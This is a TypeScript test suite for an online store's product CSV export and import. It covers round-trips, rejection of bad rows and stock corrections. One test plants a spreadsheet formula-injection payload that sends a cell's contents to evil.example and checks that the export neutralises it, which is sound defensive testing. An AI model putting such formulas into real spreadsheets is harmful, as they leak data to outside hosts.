import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { eq, sql } from 'drizzle-orm';
import { cacheTags } from '@/lib/cache-tags';
import { csvColumns } from '@/lib/catalogue/products/editing/csv/columns';
import { exportProductsCsv } from '@/lib/catalogue/products/editing/csv/export-products-csv';
import { importProductsCsv } from '@/lib/catalogue/products/editing/csv/import-products-csv';
import { listAdminProducts } from '@/lib/catalogue/products/editing/list/list-admin-products';
import { getDb } from '@/lib/db/client';
import { products, stockMovements, variants } from '@/lib/db/schema';
import { seedDatabase } from '@/lib/seed';
import type { Actor } from '@/lib/identity/staff/actor';
import { adminProductQuerySchema } from '@/lib/catalogue/schemas/product-editor';
import { describeAppDatabase } from '@/tests/api/helpers/catalogue-suite';
import { takeExpiredTags } from '@/tests/helpers/next-cache';
import { auditCount, createActor } from './support';

// The rows alone: the pictures are not rendered (tests/db/seed.test.ts checks those).
const mediaDir = path.join(os.tmpdir(), 'store-seed-test-media');

const exportAll = (query: Record<string, string> = {}) =>
  exportProductsCsv(adminProductQuerySchema.parse(query));

/** Every product's version and every variant's price and stock: what an import may change. */
async function catalogueState() {
  const [versions, stock] = await Promise.all([
    getDb()
      .select({ id: products.id, version: products.version })
      .from(products)
      .orderBy(products.id),
    getDb()
      .select({ id: variants.id, price: variants.price, stock: variants.stock })
      .from(variants)
      .orderBy(variants.id),
  ]);
  return { versions, stock };
}

type Cells = Record<string, string>;
const rowsOf = (text: string): Cells[] => parse(text, { columns: true });
const toCsv = (rows: Cells[]) => stringify(rows, { header: true, columns: Object.keys(rows[0]!) });

describeAppDatabase(
  'CSV export and import on the demo catalogue',
  (db) => seedDatabase(db, { mediaDir, renderImages: false }),
  () => {
    let manager: Actor;
    let exported: string;
    beforeAll(async () => {
      manager = await createActor(getDb(), 'manager');
      exported = await exportAll();
    });
    beforeEach(() => takeExpiredTags());

    it('exports one row per variant, drafts included', async () => {
      const rows = rowsOf(exported);
      expect(rows).toHaveLength(await getDb().$count(variants));
      expect(new Set(rows.map((row) => row.product_sku)).size).toBe(await getDb().$count(products));
      expect(rows.some((row) => row.status === 'draft')).toBe(true);
      expect(Object.keys(rows[0]!)).toEqual([...csvColumns]);
    });

    it('imports its own export back without changing anything', async () => {
      const before = await catalogueState();
      const audits = await auditCount();
      const movements = await getDb().$count(stockMovements);

      const dryRun = await importProductsCsv(manager, exported, { dryRun: true });
      expect(dryRun.errors).toEqual([]);
      expect(dryRun.counts).toEqual({
        create: 0,
        update: 0,
        unchanged: await getDb().$count(products),
      });

      const applied = await importProductsCsv(manager, exported, { dryRun: false });
      expect(applied).toMatchObject({ applied: true, errors: [], counts: dryRun.counts });
      expect(await catalogueState()).toEqual(before);
      expect(await auditCount()).toBe(audits);
      expect(await getDb().$count(stockMovements)).toBe(movements);
      expect(takeExpiredTags()).toEqual([]);
    });

    it('changes nothing when one row is bad, and names that row and its column', async () => {
      const rows = rowsOf(exported);
      rows[3]!.stock = String(Number(rows[3]!.stock) + 5);
      rows[40]!.price = 'a lot';
      const before = await catalogueState();
      const audits = await auditCount();

      const report = await importProductsCsv(manager, toCsv(rows), { dryRun: false });
      expect(report.applied).toBe(false);
      expect(report.errors).toEqual([
        { row: 42, column: 'price', message: expect.stringMatching(/amount in BDT/) },
      ]);
      expect(await catalogueState()).toEqual(before);
      expect(await auditCount()).toBe(audits);
      expect(takeExpiredTags()).toEqual([]);
    });

    it('applies a changed price and stock to that product alone, recording the stock as a correction', async () => {
      const rows = rowsOf(exported);
      const row = rows[7]!;
      const was = { price: row.price!, stock: row.stock! };
      row.price = String(Number(row.price) + 100);
      row.stock = String(Number(row.stock) + 3);
      const text = toCsv(rows);
      const dryRun = await importProductsCsv(manager, text, { dryRun: true });
      expect(dryRun.products.filter((change) => change.action !== 'unchanged')).toEqual([
        expect.objectContaining({
          sku: row.product_sku,
          action: 'update',
          changes: [],
          variants: [
            {
              sku: row.variant_sku,
              row: 9,
              action: 'update',
              changes: [
                { column: 'price', from: was.price, to: row.price },
                { column: 'stock', from: was.stock, to: row.stock },
              ],
            },
          ],
        }),
      ]);
      const before = await catalogueState();
      const applied = await importProductsCsv(manager, text, {
        dryRun: false,
        expectedFingerprint: dryRun.fingerprint!,
      });
      expect(applied.counts.update).toBe(1);
      const after = await catalogueState();
      const changed = after.versions.filter(
        (product, index) => product.version !== before.versions[index]!.version,
      );
      expect(changed).toHaveLength(1);
      const [variant] = await getDb()
        .select()
        .from(variants)
        .where(sql`${variants.sku} = ${row.variant_sku}`);
      expect(variant).toMatchObject({ price: Number(row.price), stock: Number(row.stock) });
      const [movement] = await getDb()
        .select()
        .from(stockMovements)
        .where(sql`${stockMovements.variantId} = ${variant!.id}`);
      expect(movement).toMatchObject({
        delta: 3,
        reason: 'correction',
        note: 'CSV import',
        actorId: manager.id,
      });
      expect(takeExpiredTags()).toContain(cacheTags.product(variant!.productId));

      const again = await importProductsCsv(manager, text, {
        dryRun: false,
        expectedFingerprint: dryRun.fingerprint!,
      });
      expect(again).toMatchObject({
        applied: false,
        errors: [expect.objectContaining({ row: 1 })],
      });
    });

    it('exports the filtered list only', async () => {
      const filters = { category: 'lehenga', status: 'published' };
      const rows = rowsOf(await exportAll(filters));
      const listed = await listAdminProducts(
        adminProductQuerySchema.parse({ ...filters, page_size: '100' }),
      );
      expect(listed.count).toBeGreaterThan(0);
      expect(listed.count).toBeLessThan(await getDb().$count(products));
      expect([...new Set(rows.map((row) => row.product_sku))].sort()).toEqual(
        listed.rows.map((row) => row.sku).sort(),
      );
      expect(rows.every((row) => row.status === 'published')).toBe(true);
    });
    it('writes cells a spreadsheet would run as text, and reads them back unchanged', async () => {
      const ids = (
        await getDb().select({ id: products.id }).from(products).orderBy(products.id).limit(4)
      ).map((row) => row.id);
      const planted = [
        { description: '=HYPERLINK("http://evil.example/?"&A1,"Open")', care: '+1 dry clean' },
        { description: '-hand embroidered\n-silk lining', care: '@home: air it' },
        // Staff's own text that begins with a quote, with or without a formula after it.
        { description: "'=not a formula, as typed", care: "''-two quotes" },
        { description: "'Ivory' is the colour", care: 'Dry clean only' },
      ];
      for (const [index, values] of planted.entries()) {
        await getDb().update(products).set(values).where(eq(products.id, ids[index]!));
      }
      const text = await exportAll();
      const cells = rowsOf(text);
      const has = (column: 'description' | 'care', value: string) =>
        cells.some((row) => row[column] === value);
      expect(has('description', `'=HYPERLINK("http://evil.example/?"&A1,"Open")`)).toBe(true);
      expect(has('care', "'+1 dry clean")).toBe(true);
      expect(has('description', "'-hand embroidered\n-silk lining")).toBe(true);
      expect(has('care', "'@home: air it")).toBe(true);
      expect(has('description', "''=not a formula, as typed")).toBe(true);
      expect(has('care', "'''-two quotes")).toBe(true);
      expect(has('description', "'Ivory' is the colour")).toBe(true);
      // No cell of the file begins as a formula would.
      expect(cells.flatMap(Object.values).filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);

      const before = await catalogueState();
      const audits = await auditCount();
      const applied = await importProductsCsv(manager, text, { dryRun: false });
      expect(applied).toMatchObject({ applied: true, errors: [] });
      expect(applied.counts).toMatchObject({ create: 0, update: 0 });
      expect(await catalogueState()).toEqual(before);
      expect(await auditCount()).toBe(audits);
      const [kept] = await getDb().select().from(products).where(eq(products.id, ids[2]!));
      expect(kept).toMatchObject(planted[2]!);
    });
  },
);
